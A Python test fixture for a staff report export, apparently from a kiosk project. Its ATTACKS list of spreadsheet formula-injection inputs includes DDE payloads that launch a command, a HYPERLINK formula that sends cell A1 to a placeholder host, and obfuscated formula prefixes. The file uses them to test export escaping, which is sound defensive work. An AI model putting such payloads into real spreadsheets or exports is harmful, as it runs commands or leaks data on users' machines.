"""Reports for tests: one with a column of each kind, and any that somebody could have typed."""

from datetime import UTC, datetime
from typing import Any

from hypothesis import strategies as st

from kiosk.contract.staff.reports import Cell, Report, ReportColumn, ReportParameter

MADE_AT = datetime(2026, 11, 22, 3, 4, 5, tzinfo=UTC)
"""Still the 21st in Colombia."""
COLUMNS = (
    ReportColumn(title="Fecha", kind="instant"),
    ReportColumn(title="Descripción", kind="text"),
    ReportColumn(title="Cantidad", kind="number", summed=True),
    ReportColumn(title="Valor", kind="pesos", summed=True),
)
ATTACKS = (
    '=HYPERLINK("http://example.invalid/?"&A1;"clic")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\N{NO-BREAK SPACE}=1+1",
    "\N{ZERO WIDTH NO-BREAK SPACE}=1+1",
    "＝1+1",
    ";=1+1",
    '";=1+1;"',
    "'=1+1",
)
ODDITIES = (
    "Café «El Ñandú» & Cía. <s.a.s.>",
    "dos\nlíneas",
    "con;punto y coma",
    'con "comillas"',
    "00041018",
    "_x0041_",
    "1e5",
    "http://example.invalid",
    "🙂 漢字 \x01\x1f\x7f \ufffe",
    " ",
    "",
)


def make_report(*rows: tuple[Cell, ...], **changes: Any) -> Report:
    """A report of ``COLUMNS``; ``changes`` replace fields."""
    values: dict[str, Any] = {
        "name": "movements",
        "title": "Movimientos de prepago",
        "made_at": MADE_AT,
        "parameters": (
            ReportParameter(label="Desde", value="2026-11-01"),
            ReportParameter(label="Titular", value="CC ••••• 001"),
        ),
        "columns": COLUMNS,
        "rows": rows,
    }
    return Report(**(values | changes))


def texts() -> st.SearchStrategy[str]:
    """What may stand in a text: any letters, and what somebody would try."""
    return st.one_of(
        st.sampled_from(ATTACKS + ODDITIES),
        st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0"), max_size=40),
    )


def reports() -> st.SearchStrategy[Report]:
    """Any report of ``COLUMNS``."""
    instants = st.integers(0, 10**10).map(lambda at: datetime.fromtimestamp(at, UTC))
    numbers = st.integers(-(10**12), 10**12)
    row = st.tuples(
        st.none() | instants, st.none() | texts(), st.none() | numbers, st.none() | numbers
    )
    return st.builds(
        lambda rows, cut: make_report(*rows, cut=cut),
        st.lists(row, max_size=8),
        st.booleans(),
    )
